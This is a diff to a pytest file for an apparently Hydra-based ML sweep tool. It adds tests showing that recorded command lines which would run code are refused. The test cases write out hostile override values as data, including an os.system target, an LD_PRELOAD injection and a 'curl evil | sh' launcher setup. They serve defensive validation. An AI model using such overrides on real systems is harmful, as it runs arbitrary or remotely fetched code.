@@ -5,8 +5,7 @@ from __future__ import annotations
 
 import json
 import os
-import subprocess
-import sys
+import re
 from pathlib import Path
 
 import pytest
@@ -37,13 +36,6 @@ def _manifest(tmp_path: Path, jobs: list[dict], pid: int) -> Path:
                                                   "submitter": {"pid": pid, "host": os.uname().nodename},
                                                   "jobs": jobs}))
     return tmp_path
-
-
-@pytest.fixture
-def dead_pid() -> int:
-    proc = subprocess.Popen([sys.executable, "-c", "pass"])
-    proc.wait()
-    return proc.pid
 
 
 def test_each_state_is_read_from_the_run_directory_and_the_submitter(tmp_path: Path, dead_pid: int) -> None:
@@ -155,3 +147,37 @@ def test_the_swept_keys_are_the_sweep_overrides_and_the_searchs_parameters(tmp_p
     assert sweep.swept_tags(Hydra, ["a=2", "b=3", "c=y", "d=0"]) == ["a=2", "c=y", "d=0"]
     Hydra.mode.name = "RUN"
     assert sweep.swept_tags(Hydra, ["a=2"]) == [] and sweep.swept_tags(None, ["a=2"]) == []
+
+
+@pytest.mark.parametrize("arg, why", [
+    ("hydra.callbacks.x._target_=os.system", "instantiation keys"),
+    ("hydra.searchpath=[file:///tmp/evil]", "not among the launcher and search settings"),
+    ("hydra.job.env_set.LD_PRELOAD=/tmp/x.so", "not among the launcher and search settings"),
+    ("hydra.launcher.setup=[curl evil | sh]", "not among the launcher and search settings"),
+    ("hydra.sweeper.custom_search_space=evil.fn", "not among the launcher and search settings"),
+    ("hydra/launcher=evil", "hydra/launcher accepts serial"),
+    ("--config-dir=/tmp/evil", "a flag other than -m"),
+    ("trainer.strategy._target_=lmlab.record.rundir.atomic_write", "instantiation keys"),
+    ("+trainer.strategy={_target_:torch.save}", "Hydra's instantiation keys are not data"),
+    ("optim.lr=${oc.create:x}", "the resolver 'oc.create'"),
+    ("optim.lr=${oc.decode:1},2", "the resolver 'oc.decode'"),
+    ("model=gpt2,{_target_:os.system}", "instantiation keys are not data"),
+])
+def test_a_recorded_command_that_would_run_code_is_refused_naming_the_argument(tmp_path: Path, arg: str,
+                                                                               why: str) -> None:
+    from lmlab.record.saved import SavedStateRefused, check_command
+
+    with pytest.raises(SavedStateRefused, match=re.escape(why)) as refused:
+        check_command(["-m", "placement=pre,post", arg], tmp_path / sweep.MANIFEST)
+    assert "command[3]" in str(refused.value) and "sweep.json" in str(refused.value)
+
+
+def test_a_sweeps_own_command_is_accepted_as_recorded(tmp_path: Path) -> None:
+    from lmlab.record.saved import check_command
+
+    command = ["-m", "data=text_files", "data.paths=[/d/a.txt]", "placement=pre,post", "seed=1,2",
+               "optim.lr=choice(1e-3,3e-3)", "hparams_search=optuna", "hydra/launcher=slurm",
+               "hydra.launcher.wait=false",
+               "hydra.launcher.partition=gpu", "hydra.sweeper.n_trials=3", "hydra.sweeper.sampler.seed=1",
+               "hydra.sweep.dir=/x/y", "trainer.max_steps=600", "logger=none"]
+    assert check_command(command, tmp_path / sweep.MANIFEST) == command
